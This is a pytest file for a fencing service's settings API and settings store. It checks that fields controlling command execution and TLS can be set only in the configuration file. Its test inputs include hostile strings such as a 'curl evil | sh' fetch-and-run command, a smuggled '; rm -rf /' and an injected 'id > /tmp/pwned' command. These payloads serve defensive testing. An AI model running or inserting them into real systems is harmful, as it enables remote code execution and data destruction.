"""Code execution stays in the file: the API refuses a write of exec, the command template,
password_via, TLS checks or driver template with 403 naming the field, shows them read-only,
and a settings-topic record that sets them changes nothing (the file's values apply)."""

from __future__ import annotations

import asyncio
import secrets

import pytest
from cryptography.fernet import Fernet

from fencing.settings import (
    FILE_ONLY_IPMI_FIELDS,
    ClusterSettings,
    Driver,
    FencerSettings,
    HostSettings,
    IpmiOverrides,
    TopicNames,
)
from streams.settings_store import SettingsStore

pytestmark = pytest.mark.timeout(90)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("exec", "/bin/sh"),
        ("execution_syntax", "sh -c 'curl evil | sh'"),
        ("password_via", "env"),
        ("action_test", "; rm -rf /"),
        ("verify_tls", False),
        ("allow_insecure_redfish", True),
    ],
)
def test_an_api_write_of_a_file_only_field_is_refused_with_403_naming_it(api, lab, field, value):
    with api.client() as c:
        for path in (
            f"/api/clusters/{lab.cluster_a}/settings",
            f"/api/hosts/{lab.host_a1}/settings",
        ):
            r = c.put(path, json={"ipmi": {field: value}})
            assert r.status_code == 403, (path, r.text)
            body = r.json()
            assert body["fields"][0]["field"] == f"ipmi.{field}"
            assert f"ipmi.{field}" in body["error"] and "configuration file" in body["error"]
        # Nothing was written.
        view = c.get(f"/api/clusters/{lab.cluster_a}").json()["settings"]
        assert view["overrides"][field] is None
        assert field in view["file_only"]


def test_driver_template_is_refused_unless_the_file_allows_it(api, lab):
    with api.client() as c:
        r = c.put(f"/api/hosts/{lab.host_a2}/settings", json={"ipmi": {"driver": "template"}})
        assert r.status_code == 403
        assert r.json()["fields"][0]["field"] == "ipmi.driver"
        assert "api.settable_drivers" in r.json()["error"]
        view = c.get(f"/api/hosts/{lab.host_a2}").json()["settings"]
        assert view["settable_drivers"] == ["ipmi", "redfish"]
        # A driver the file lets the API choose, and the ordinary fields, still work.
        r = c.put(
            f"/api/hosts/{lab.host_a2}/settings",
            json={"ipmi": {"driver": "redfish", "username": "ops", "port": 443}},
        )
        assert r.status_code == 200, r.text
        assert r.json()["effective"]["driver"] == "redfish"
        assert c.delete(f"/api/hosts/{lab.host_a2}/settings").status_code == 200


def _settings(broker, **file) -> FencerSettings:
    prefix = f"fileonly-{secrets.token_hex(4)}"
    topics = TopicNames(**{k: f"{prefix}.{v}" for k, v in TopicNames().model_dump().items()})
    kafka = broker.kafka_settings().model_copy(update={"topics": topics})
    return FencerSettings(kafka=kafka, **file)


async def test_a_settings_record_cannot_set_what_runs(webui_broker, caplog):
    """Whoever writes the settings topic (an old API, a stolen producer): the worker's store
    keeps exec, the template and a file-chosen driver from the file."""
    file = {
        "clusters": {
            "c1": ClusterSettings(
                ipmi=IpmiOverrides(driver=Driver.TEMPLATE, exec="/usr/bin/ipmitool")
            )
        }
    }
    settings = _settings(webui_broker, **file)
    key = Fernet(Fernet.generate_key())
    writer = SettingsStore(settings, secrets_key=key)
    worker = SettingsStore(settings, secrets_key=key)
    await writer.start()
    await worker.start()
    try:
        evil = IpmiOverrides(
            driver=Driver.TEMPLATE,  # the file's choice here: allowed
            exec="/bin/sh",
            execution_syntax="$IPMI_EXEC -c 'id > /tmp/pwned'",
            action_stop="-c id",
            username="changed",
        )
        await writer.put_cluster("c1", ClusterSettings(ipmi=evil))
        await writer.put_host("h9", HostSettings(ipmi=IpmiOverrides(driver=Driver.TEMPLATE)))
        for _ in range(100):
            if worker.effective("h1", "c1").values.username == "changed":
                break
            await asyncio.sleep(0.05)
        eff = worker.effective("h1", "c1").values
        assert eff.username == "changed"  # an ordinary field goes through
        assert eff.exec == "/usr/bin/ipmitool" and eff.driver is Driver.TEMPLATE  # the file's
        assert eff.execution_syntax == settings.defaults.execution_syntax
        assert eff.action_stop == settings.defaults.action_stop
        # A host without a file entry cannot be switched to the template by a record.
        assert worker.effective("h9", None).values.driver is Driver.IPMI
        assert "only the configuration file may set" in caplog.text
        assert "ipmi.exec" in caplog.text
    finally:
        await writer.stop()
        await worker.stop()


def test_every_file_only_field_is_an_ipmi_setting():
    assert set(FILE_ONLY_IPMI_FIELDS) <= set(IpmiOverrides.model_fields)


def test_an_http_redfish_address_is_refused_by_the_api(api, lab):
    with api.client() as c:
        r = c.put(
            f"/api/hosts/{lab.host_b1}/settings",
            json={"ipmi": {"driver": "redfish", "address": "http://10.9.9.9"}},
        )
        assert r.status_code == 422, r.text
        assert r.json()["fields"][0]["field"] == "ipmi.address"
        assert "allow_insecure_redfish" in r.json()["error"]
        r = c.put(
            f"/api/hosts/{lab.host_b1}/settings",
            json={"ipmi": {"driver": "redfish", "address": "https://10.9.9.9"}},
        )
        assert r.status_code == 200, r.text
        assert c.delete(f"/api/hosts/{lab.host_b1}/settings").status_code == 200
